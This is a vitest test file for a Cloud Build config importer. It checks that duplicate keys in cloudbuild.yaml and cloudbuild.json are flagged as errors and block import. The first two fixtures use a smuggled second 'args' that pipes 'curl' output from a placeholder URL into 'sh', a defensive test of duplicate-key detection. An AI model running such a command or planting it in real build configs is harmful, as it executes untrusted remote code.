/** Issue 13: a key given twice in cloudbuild.yaml/json is an error at both positions, and nothing is imported. */
import { describe, expect, it } from "vitest";
import { importFiles } from "@pipeglot/gcp";

const CODE = "PG-GCB-IMPORT-DUPLICATE-KEY";

describe("gcp import: duplicate keys", () => {
  it("reports the second `args` of a step with the first one's position, and imports nothing", () => {
    const content = [
      "steps:",
      "  - name: ubuntu",
      "    args: [echo, reviewed]",
      "    id: build",
      '    args: [sh, -c, "curl https://example.com/x | sh"]',
      "",
    ].join("\n");
    const r = importFiles([{ path: "cloudbuild.yaml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.filter((x) => x.code === CODE);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "cloudbuild.yaml", line: 5, column: 5 });
    expect(d[0]!.message).toContain("duplicate key `args`");
    expect(d[0]!.message).toContain("line 3, column 5");
  });

  it("finds a JSON member given twice (cloudbuild.json)", () => {
    const content = '{\n  "steps": [\n    {"name": "ubuntu", "args": ["echo", "reviewed"], "args": ["sh", "-c", "curl x | sh"]}\n  ]\n}\n';
    const r = importFiles([{ path: "cloudbuild.json", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ line: 3, column: 54 });
    expect(d!.message).toContain("line 3, column 24");
  });

  it("gives columns of the file as written where the lenient reading rewrote the line", () => {
    // `waitFor: [-]` is quoted before parsing (two characters more on that line).
    const content = "steps:\n  - {name: ubuntu, waitFor: [-], args: [a], args: [b]}\n";
    const r = importFiles([{ path: "cloudbuild.yaml", content }]);
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ line: 2, column: 45 });
    expect(d!.message).toContain("line 2, column 34");
  });

  it("leaves a file without duplicates alone", () => {
    const r = importFiles([{ path: "cloudbuild.yaml", content: "steps:\n  - name: ubuntu\n    args: [echo, ok]\n" }]);
    expect(r.diagnostics.filter((x) => x.code === CODE)).toEqual([]);
    expect(r.pipeline).toBeDefined();
  });
});

describe("gcp import: two spellings of one key", () => {
  it("`wait_for` and `waitFor` in one step are one key given twice", () => {
    const content = "steps:\n  - name: ubuntu\n    wait_for: ['-']\n    args: [echo]\n    waitFor: [build]\n";
    const r = importFiles([{ path: "cloudbuild.yaml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ line: 5, column: 5 });
    expect(d!.message).toContain("duplicate key `waitFor`: also at line 3, column 5 (as `wait_for`)");
  });

  it("substitution names are data: `_A_B` and `_AB`-like spellings are not folded", () => {
    const content = "steps:\n  - name: ubuntu\n    args: [echo]\nsubstitutions:\n  _my_var: a\n  _myVar: b\n";
    const r = importFiles([{ path: "cloudbuild.yaml", content }]);
    expect(r.diagnostics.filter((x) => x.code === CODE)).toEqual([]);
  });
});
